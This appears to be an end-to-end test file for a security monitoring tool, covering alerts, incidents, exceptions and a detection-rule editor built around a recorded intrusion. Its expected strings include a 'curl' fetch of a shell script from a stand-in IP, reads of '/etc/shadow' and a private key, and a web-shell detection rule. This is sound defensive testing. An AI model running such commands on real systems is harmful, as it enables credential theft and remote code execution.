// SPDX-License-Identifier: Apache-2.0
// cases-alerts - alerts, incidents and rules on a real collector that holds the recorded fleet (fleet-story.mjs).
import { inUrl, path } from './cases-common.mjs';
import { drawn, TIMELINE } from './cases-events.mjs';
import { assert, until } from './harness.mjs';

export const alertPanel = (page) => page.getByRole('complementary', { name: 'Alert' });
const alertRow = (page, title) => page.locator('.data-row[data-index]', { hasText: title });

const inboxTests = (world) => [
	['alerts_given_an_intrusion_when_read_then_from_the_inbox_to_the_evidence_to_the_other_hosts', async () => {
		const page = await world.open(path({ view: 'alerts' }), { ready: '.data-row[data-index]' });
		await until('the head counts them', async () => (await page.locator('.nav-count').innerText()) === '5');
		await alertRow(page, 'A program is started from shared memory').click();
		const panel = alertPanel(page);
		const chain = panel.getByRole('list', { name: 'Who started it' }).getByRole('listitem');
		await until('who started it', async () => (await chain.count()) === 5);
		assert.match(await chain.last().innerText(), /^kworkerd/);
		await panel.getByRole('button', { name: /exec/ }).click();
		await page.getByRole('complementary', { name: 'Event' }).getByText('/dev/shm/.cache/kworkerd').first().waitFor();
		await page.keyboard.press('Escape');
		await panel.getByRole('button', { name: /^Where it came from and went/ }).click();
		await page.locator('.hop-host', { hasText: 'bastion' }).waitFor();
		await page.locator('.hop-label', { hasText: 'bash -p' }).last().click();
		const process = page.getByRole('complementary', { name: 'Process' });
		await process.getByRole('list', { name: 'Alerts' }).getByText('A shell reads the shadow file').click();
		await until('its alert is chosen', async () => (await inUrl(page, 'view')) === 'alerts');
		await alertPanel(page).getByText('/etc/shadow').first().waitFor();
	}],
	['incident_given_alerts_on_three_hosts_when_one_is_read_then_all_of_it_and_why_to_its_end', async () => {
		const page = await world.open(path({ view: 'alerts' }), { ready: '.data-row[data-index]' });
		await alertRow(page, 'A shell reads the shadow file').click();
		const together = alertPanel(page).getByRole('region', { name: 'Belongs together' });
		await together.getByText('5 alerts on 3 nodes, score 100').waitFor();
		const told = await together.getByRole('listitem').allInnerTexts();
		assert.match(told[0], /A tool sends[\s\S]*web-1: where it begins/);
		assert.match(told[3], /A shell reads[\s\S]*db-1: descends from the process kworkerd over 1 connection between nodes/);
		assert.match(told[4], /A tool sends[\s\S]*bastion: descends from the process kworkerd over 2 connections between nodes/);
		await together.getByRole('button', { name: /^The incident: step by step/ }).click();
		const story = page.getByRole('region', { name: 'What happened' });
		await story.locator('li.active', { hasText: 'A shell reads the shadow file' }).waitFor();
		assert.equal(await story.getByRole('listitem').count(), 5);
		await until('a pin for each alert', async () => (await page.locator('.hop-pin').count()) === 5);
		assert.deepEqual((await page.locator('.hop-host').allInnerTexts()).map((t) => t.split('\n')[0]), ['web-1', 'db-1', 'bastion']);
		await page.locator('.hop-label.active', { hasText: 'bash -p' }).waitFor();
		await page.getByRole('link', { name: /^low alert: A tool sends/ }).last().press('Enter');
		await story.locator('li.active', { hasText: 'https://203.0.113.66/u' }).waitFor();
		await story.getByRole('button', { name: /^The alert: evidence/ }).click();
		await alertPanel(page).getByText('https://203.0.113.66/u').first().waitFor();
	}],
	['incidents_given_the_gravest_when_walked_by_keys_then_read_acknowledged_and_in_the_url', async () => {
		const page = await world.open(path({ view: 'incidents' }), { ready: '.data-row[data-index]' });
		const row = page.getByRole('grid', { name: 'Incidents' }).getByRole('row').nth(1);
		assert.match(await row.innerText(), /100[\s\S]*critical[\s\S]*A shell reads the shadow file[\s\S]*web-1 → db-1 → bastion/);
		await page.keyboard.press('j');
		await page.locator('.data-row.active').waitFor();
		await page.keyboard.press('Enter');
		const story = page.getByRole('region', { name: 'What happened' });
		await story.getByRole('listitem').first().waitFor();
		for (let i = 0; i < 3; i++) await page.keyboard.press('j');
		await story.locator('li.active', { hasText: 'A private key is read' }).waitFor();
		const link = await page.evaluate(() => location.pathname + location.search);
		await page.keyboard.press('a');
		await page.locator('.toast').getByText('5 alerts acknowledged').waitFor();
		await story.locator('li.active').getByText(/^acknowledged/).waitFor();
		const again = await world.open(link, { ready: '.story li.active' });
		await again.locator('.story li.active', { hasText: 'A private key is read' }).waitFor();
		const open = await (await fetch(`${world.url}/api/v1/alerts?status=acknowledged`, { headers: { Authorization: `Bearer ${world.token}` } })).json();
		assert.equal(open.alerts.length, 5);
		for (const a of open.alerts) await fetch(`${world.url}/api/v1/alerts/${a.id}/reopen`, { method: 'POST', headers: { Authorization: `Bearer ${world.token}`, 'Content-Type': 'application/json' }, body: '{}' });
		await again.keyboard.press('Escape');
		await again.keyboard.press('Escape');
		await until('the list again', async () => (await inUrl(again, 'sel')) === '');
	}],
	['alerts_given_one_when_worked_on_by_keys_then_acknowledged_noted_closed_and_opened_again', async () => {
		const page = await world.open(path({ view: 'alerts' }), { ready: '.data-row[data-index]' });
		await alertRow(page, 'A private key is read').click();
		const panel = alertPanel(page);
		await panel.getByRole('button', { name: /^Acknowledge/ }).waitFor();
		await page.keyboard.press('a');
		await panel.getByText(/^acknowledged/).waitFor();
		await until('it leaves the open ones', async () => (await alertRow(page, 'A private key is read').count()) === 0);
		await page.keyboard.press('n');
		await panel.getByLabel('Note', { exact: true }).pressSequentially('the key of the shop');
		await page.keyboard.press('Enter');
		await panel.getByText('the key of the shop').waitFor();
		await panel.getByLabel('Note', { exact: true }).blur();
		await page.keyboard.press('c');
		await panel.getByText(/^closed/).waitFor();
		await page.getByRole('group', { name: 'Status' }).getByRole('button', { name: 'Closed' }).click();
		await alertRow(page, 'A private key is read').click();
		await panel.getByRole('button', { name: 'Open it again' }).click();
		await panel.getByText(/^open/).waitFor();
		await until('it is open', async () => (await page.locator('.nav-count').innerText()) === '5');
	}],
	['alerts_given_one_when_excepted_then_the_rule_has_the_exception', async () => {
		const page = await world.open(path({ view: 'alerts', level: 'critical' }), { ready: '.data-row[data-index]' });
		assert.equal(await page.locator('.data-row[data-index]').count(), 1);
		await alertRow(page, 'A shell reads the shadow file').click();
		await alertPanel(page).getByRole('button', { name: /^Exception/ }).click();
		await alertPanel(page).getByLabel('Why').fill('the audit');
		await alertPanel(page).getByLabel('Your name').fill('alice');
		await alertPanel(page).getByRole('button', { name: 'Add the exception' }).click();
		await page.locator('.toast').getByText('The rule leaves it out').waitFor();
		await alertPanel(page).getByRole('button', { name: 'The rule', exact: true }).click();
		await rulePanel(page).getByRole('tab', { name: 'Exceptions (1)' }).click();
		await rulePanel(page).getByText(/the audit · by alice · for ever/).waitFor();
		await rulePanel(page).getByRole('button', { name: 'Remove the exception' }).click();
		await rulePanel(page).getByRole('button', { name: 'Really: Remove the exception' }).click();
		await rulePanel(page).getByRole('tab', { name: 'Exceptions (0)' }).waitFor();
	}],
	['alerts_given_pins_on_the_timeline_when_clicked_then_the_alert_opens', async () => {
		const page = await world.open(path({ view: 'timeline', since: '-15m' }), { ready: '.lane' });
		await page.getByText(/^\d alerts$/).waitFor();
		await until('a grave one is drawn', () => drawn(page, '--danger'));
		const q = await fetch(`${world.url}/api/v1/alerts?level=critical`, { headers: { Authorization: `Bearer ${world.token}` } });
		const alert = (await q.json()).alerts[0];
		await page.goto(`${world.url}${path({ view: 'timeline', since: new Date(Date.parse(alert.first) - 1000).toISOString(), until: new Date(Date.parse(alert.first) + 1000).toISOString() })}`);
		const lane = page.locator('.lane', { hasText: 'db-1' });
		await lane.waitFor();
		await page.getByText('1 alert', { exact: true }).waitFor();
		const [canvas, row] = [await page.locator(TIMELINE).boundingBox(), await lane.boundingBox()];
		await page.mouse.click(canvas.x + canvas.width / 2, row.y + 8);
		await alertPanel(page).locator('h2', { hasText: 'A shell reads the shadow file' }).waitFor();
	}],
];

const RULE = `id: web-shell
name: A web server starts a shell
severity: high
mitre: [T1505.003]
query: |
  process where event.action == "exec" and process.name == "dash" and process.parent.name : "python3*"
tests:
  - name: gunicorn
    fires: true
    events:
      - { event.action: exec, process.executable: /usr/bin/dash, process.parent.executable: /usr/bin/python3.11 }
`;

const rulePanel = (page) => page.getByRole('complementary', { name: 'Rule' });

const ruleTests = (world) => [
	['rules_given_a_faulty_text_when_written_then_the_line_is_marked_with_what_was_expected', async () => {
		const page = await world.open(path({ view: 'rules', sel: '+' }), { ready: '.rule-panel' });
		const text = rulePanel(page).getByLabel('Text of the rule');
		await rulePanel(page).getByText('valid, 1 of 1 tests pass').waitFor();
		await text.fill(RULE.replace('process.name ==', 'process.nme =='));
		await rulePanel(page).getByText(/unknown field 'process.nme'; did you mean process.name\?/).waitFor();
		await rulePanel(page).locator('.code-numbers .grave').filter({ hasText: /^6$/ }).waitFor();
		assert.equal(await rulePanel(page).getByRole('button', { name: /^Put it in force/ }).getAttribute('aria-disabled'), 'true');
		await rulePanel(page).getByRole('alert').getByRole('button').click();
		assert.equal(await text.evaluate((el) => el === document.activeElement && el.value.slice(0, el.selectionStart).split('\n').length), 6);
		await text.fill(RULE.replace('fires: true', 'fires: false'));
		await rulePanel(page).getByText(/test "gunicorn"/).waitFor();
		assert.equal(await rulePanel(page).getByRole('button', { name: /^Put it in force/ }).getAttribute('aria-disabled'), 'true');
	}],
	['rules_given_a_text_when_backtested_applied_changed_and_rolled_back_then_each_is_shown', async () => {
		const page = await world.open(path({ view: 'rules', sel: '+' }), { ready: '.rule-panel' });
		const panel = rulePanel(page);
		await panel.getByLabel('Text of the rule').fill(RULE);
		await panel.getByText('valid, 1 of 1 tests pass').waitFor();
		await panel.getByRole('button', { name: /^See what it would have found/ }).click();
		const backtest = panel.getByRole('region', { name: 'Backtest' });
		await backtest.getByText('1 event', { exact: true }).waitFor();
		await backtest.locator('canvas').waitFor();
		await backtest.getByText('curl -fsS http://203.0.113.66/i.sh').waitFor();
		await panel.getByLabel('Why it is changed').fill('first');
		await panel.getByRole('button', { name: /^Put it in force/ }).click();
		await until('it is chosen in the list', async () => (await inUrl(page, 'sel')) === 'web-shell');
		await page.getByRole('row', { name: /A web server starts a shell/ }).waitFor();
		await panel.getByLabel('Text of the rule').fill(RULE.replace('severity: high', 'severity: low'));
		const diff = panel.getByRole('group', { name: 'What changes' });
		await diff.getByText('removed: severity: high').waitFor();
		await diff.getByText('added: severity: low').waitFor();
		await panel.getByLabel('Why it is changed').fill('too loud');
		await until('it can be applied', async () => (await panel.getByRole('button', { name: /^Put it in force/ }).getAttribute('aria-disabled')) !== 'true');
		await panel.getByRole('button', { name: /^Put it in force/ }).click();
		await panel.getByRole('tab', { name: 'History (2)' }).click();
		await panel.locator('.revision', { hasText: 'first' }).click();
		await panel.getByText('added: severity: low').waitFor();
		await panel.getByRole('button', { name: 'Put revision 1 in force again' }).click();
		await panel.getByRole('button', { name: 'Really: Put revision 1 in force again' }).click();
		await panel.getByRole('tab', { name: 'History (3)' }).waitFor();
		await panel.getByRole('tab', { name: 'Text' }).click();
		await until('the first text is in force', async () => (await panel.getByLabel('Text of the rule').inputValue()) === RULE);
	}],
	['rules_given_a_rule_when_disabled_found_and_excepted_then_list_and_panel_follow', async () => {
		const page = await world.open(path({ view: 'rules', sel: 'web-shell' }), { ready: '.rule-panel h2' });
		const panel = rulePanel(page);
		await panel.getByRole('button', { name: /^It is enabled/ }).click();
		await page.getByRole('row', { name: /A web server starts a shell/ }).getByText('disabled').waitFor();
		await panel.getByRole('button', { name: /^It is disabled/ }).click();
		await panel.getByRole('button', { name: /^It is enabled/ }).waitFor();
		await panel.getByRole('tab', { name: 'Exceptions (0)' }).click();
		await panel.getByLabel('Condition').fill('user.name == "ci"');
		await panel.getByLabel('Why').fill('builds');
		await panel.getByLabel('Your name').fill('alice');
		await panel.getByRole('button', { name: 'Add the exception' }).click();
		await panel.getByRole('tab', { name: 'Exceptions (1)' }).waitFor();
		await panel.getByText('user.name == "ci"').waitFor();
		await page.getByLabel('Find a rule').fill('nothing has this');
		await until('no row is left', async () => (await page.locator('.data-row[data-index]').count()) === 0);
		await page.getByLabel('Find a rule').fill('T1505');
		await page.getByRole('row', { name: /A web server starts a shell/ }).waitFor();
	}],
];

export const alertTests = (world) => [...inboxTests(world), ...ruleTests(world)];
